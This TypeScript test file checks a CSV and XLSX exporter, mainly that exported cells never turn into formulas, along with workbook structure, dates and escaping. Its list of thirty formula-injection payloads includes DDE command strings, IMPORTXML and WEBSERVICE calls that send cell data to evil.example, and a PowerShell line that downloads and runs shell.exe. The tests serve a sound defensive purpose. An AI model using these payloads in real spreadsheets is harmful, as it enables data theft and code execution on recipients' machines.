/** CSV and XLSX: opened again, and no cell is a formula whatever it holds (T54). */
import { strFromU8, unzipSync } from "fflate";
import { SaxesParser } from "saxes";
import { describe, expect, test } from "vitest";

import { harmless } from "./csv.ts";
import { type Cell, type Table, TABLE_FILES } from "./index.ts";
import { columnName, sheetName, xmlText } from "./xlsx-parts.ts";

/** Thirty ways to smuggle a formula into a cell. */
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","见证书")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd","/C calc","")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "=\t1",
  '=1+1","=2+2',
  '"=1+1"',
  "=A1&CHAR(10)",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "%0A-3+3+cmd|' /C calc'!D2",
  ";=1+1",
  "=<f>1</f>",
  "</t></is></c><c><f>1+1</f></c>",
  "_x003D_1+1",
  "=2+5+cmd|' /C powershell IEX(wget evil.example/shell.exe)'!A0",
];

async function fileOf(format: "csv" | "xlsx", rows: readonly (readonly Cell[])[]): Promise<Buffer> {
  const table: Table = {
    name: "线索",
    columns: [
      { head: "编号", width: 16 },
      { head: "企业", width: 40 },
    ],
    pages: (async function* () {
      for (let from = 0; from < rows.length; from += 3) yield rows.slice(from, from + 3);
    })(),
    footer: (count) => [["记录数", String(count)]],
  };
  const pieces: Uint8Array[] = [];
  for await (const piece of TABLE_FILES[format].write(table)) pieces.push(piece);
  return Buffer.concat(pieces);
}

interface ReadCell {
  readonly at: string;
  readonly type: string;
  readonly style: string;
  text: string;
}

interface ReadSheet {
  readonly cells: ReadCell[];
  /** Names of all elements in the order in which they begin. */
  readonly elements: string[];
  readonly attributes: Map<string, Record<string, string>>;
}

function readSheet(xml: string): ReadSheet {
  const read: ReadSheet = { cells: [], elements: [], attributes: new Map() };
  const parser = new SaxesParser();
  parser.on("opentag", ({ name, attributes }) => {
    read.elements.push(name);
    const values = attributes as Record<string, string>;
    read.attributes.set(name, values);
    if (name === "c")
      read.cells.push({
        at: values["r"] ?? "",
        type: values["t"] ?? "n",
        style: values["s"] ?? "",
        text: "",
      });
  });
  parser.on("text", (text) => {
    const cell = read.cells.at(-1);
    if (cell !== undefined) cell.text += text;
  });
  parser.on("error", (error) => {
    throw error;
  });
  parser.write(xml).close();
  return read;
}

const partsOf = (file: Buffer) =>
  Object.fromEntries(
    Object.entries(unzipSync(file)).map(([name, bytes]) => [name, strFromU8(bytes)]),
  );

/** A reader of RFC 4180. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  for (const match of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    const row = rows.at(-1) ?? [];
    if (rows.length === 0) rows.push(row);
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
    if (match[3] === "\r\n") rows.push([]);
  }
  return rows.slice(0, -1);
}

describe("T54: no exported cell is a formula", () => {
  const rows = PAYLOADS.map((payload, index) => [`n${index}`, payload]);

  test("there are thirty payloads, all different", () => {
    expect(new Set(PAYLOADS).size).toBe(30);
  });

  test("XLSX: every payload is text of type inlineStr, whole, in format text; the sheet has no f element", async () => {
    const parts = partsOf(await fileOf("xlsx", rows));
    const sheet = readSheet(parts["xl/worksheets/sheet1.xml"] ?? "");
    expect(sheet.elements).not.toContain("f");
    const column = sheet.cells.filter(({ at }) => /^B([2-9]|[12]\d|3[01])$/.test(at));
    expect(column).toHaveLength(30);
    expect(column.every(({ type, style }) => type === "inlineStr" && style === "1")).toBe(true);
    const given = PAYLOADS.map((text) =>
      text.replaceAll("\r", "_x000D_").replace("_x003D_", "_x005F_x003D_"),
    );
    expect(column.map(({ text }) => text)).toEqual(given);
  });

  test("CSV: every cell comes back whole, and none begins with a sign of a formula", async () => {
    const text = (await fileOf("csv", rows)).toString("utf8");
    expect(text.startsWith("\uFEFF编号,企业\r\n")).toBe(true);
    const read = readCsv(text.slice(1));
    expect(read).toHaveLength(1 + 30 + 2);
    const cells = read.slice(1, 31).map((row) => row[1] ?? "");
    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
    expect(cells.map((cell) => cell.replace(/^'/, ""))).toEqual(PAYLOADS);
  });

  test("what is no formula stays as it is", () => {
    expect(harmless("线2026-00318")).toBe("线2026-00318");
    expect(harmless("1-2")).toBe("1-2");
  });
});

describe("XLSX", () => {
  test("the package has what ECMA-376 asks for, and every part is well-formed", async () => {
    const parts = partsOf(await fileOf("xlsx", [["a", 1]]));
    expect(Object.keys(parts).toSorted()).toEqual([
      "[Content_Types].xml",
      "_rels/.rels",
      "xl/_rels/workbook.xml.rels",
      "xl/styles.xml",
      "xl/workbook.xml",
      "xl/worksheets/sheet1.xml",
    ]);
    for (const xml of Object.values(parts))
      expect(readSheet(xml).elements.length).toBeGreaterThan(1);
    const types = parts["[Content_Types].xml"] ?? "";
    for (const part of ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"])
      expect(types).toContain(`PartName="/${part}"`);
    const styles = readSheet(parts["xl/styles.xml"] ?? "");
    const counted = parts["xl/styles.xml"]?.match(/<cellXfs.*<\/cellXfs>/)?.[0].match(/<xf /g);
    expect(styles.attributes.get("cellXfs")?.["count"]).toBe(String(counted?.length));
  });

  test("sheet: the elements stand in the order of the schema; head frozen, widths, filter over the table only", async () => {
    const rows = Array.from({ length: 7 }, (_, index): Cell[] => [`n${index}`, index]);
    const parts = partsOf(await fileOf("xlsx", rows));
    const { elements, attributes, cells } = readSheet(parts["xl/worksheets/sheet1.xml"] ?? "");
    const top = ["sheetViews", "sheetFormatPr", "cols", "sheetData", "autoFilter"];
    expect(elements.filter((name) => top.includes(name))).toEqual(top);
    expect(attributes.get("pane")).toMatchObject({ ySplit: "1", state: "frozen" });
    expect(attributes.get("autoFilter")).toEqual({ ref: "A1:B8" });
    expect(cells.slice(-2).map(({ at, text }) => `${at} ${text}`)).toEqual(["A10 记录数", "B10 7"]);
    expect(parts["xl/workbook.xml"]).toContain("'线索'!$A$1:$B$8");
  });

  test("times are numbers on the clock of Asia/Shanghai, days are days, hidden cells say so in a style of their own", async () => {
    const parts = partsOf(
      await fileOf("xlsx", [
        [{ at: new Date("2026-05-31T16:00:00Z") }, { day: "2026-06-01" }],
        [{ hidden: "开标前不显示" }, null],
        [Number.NaN, -3.5],
      ]),
    );
    const { cells } = readSheet(parts["xl/worksheets/sheet1.xml"] ?? "");
    const cell = (at: string) => cells.find((one) => one.at === at);
    // 46174 is 2026-06-01 in Excel's calendar.
    expect(cell("A2")).toMatchObject({ type: "n", style: "3", text: "46174" });
    expect(cell("B2")).toMatchObject({ type: "n", style: "4", text: "46174" });
    expect(cell("A3")).toMatchObject({ type: "inlineStr", style: "5", text: "开标前不显示" });
    expect(cell("B3")).toBeUndefined();
    expect(cell("A4")).toMatchObject({ type: "inlineStr", text: "NaN" });
    expect(cell("B4")).toMatchObject({ type: "n", text: "-3.5" });
  });

  test("signs that XML cannot hold are replaced, a text too long is cut, a lone surrogate is mended", () => {
    expect(xmlText("a\u0000b\u001Fc")).toBe("a\uFFFDb\uFFFDc");
    expect(xmlText("x".repeat(40_000))).toHaveLength(32_767);
    expect(xmlText("\uD800")).toBe("\uFFFD");
  });

  test("names of columns and sheets", () => {
    expect([0, 25, 26, 701, 702].map(columnName)).toEqual(["A", "Z", "AA", "ZZ", "AAA"]);
    expect(sheetName("a/b:c*d?e[f]'g")).toBe("a b c d e f  g");
    expect(sheetName("'")).toBe("1");
  });

  test("the same table gives the same bytes", async () => {
    expect(await fileOf("xlsx", [["a", 1]])).toEqual(await fileOf("xlsx", [["a", 1]]));
  });
});
